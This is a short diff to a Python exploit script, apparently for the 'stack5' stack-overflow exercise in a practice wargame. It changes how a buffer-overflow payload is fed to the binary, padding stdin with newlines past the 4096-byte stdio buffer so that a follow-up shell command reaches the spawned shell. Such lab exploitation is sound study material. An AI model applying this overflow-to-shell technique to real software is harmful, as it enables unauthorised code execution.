@@ -14,5 +14,7 @@ if __name__ == "__main__":
     with open('input.txt', 'wb') as file:
         file.write(payload)
 
-    with subprocess.Popen(['./stack5'], shell=True, stdin=subprocess.PIPE) as process:
-        process.stdin.write(payload)
+    # gets() reads a whole stdio buffer, the newlines fill the rest of it so the command reaches the shell
+    command = b'\n' * (4096 - len(payload)) + b'echo stack5 shell\n'
+    with subprocess.Popen(['./stack5'], stdin=subprocess.PIPE) as process:
+        process.stdin.write(payload + command)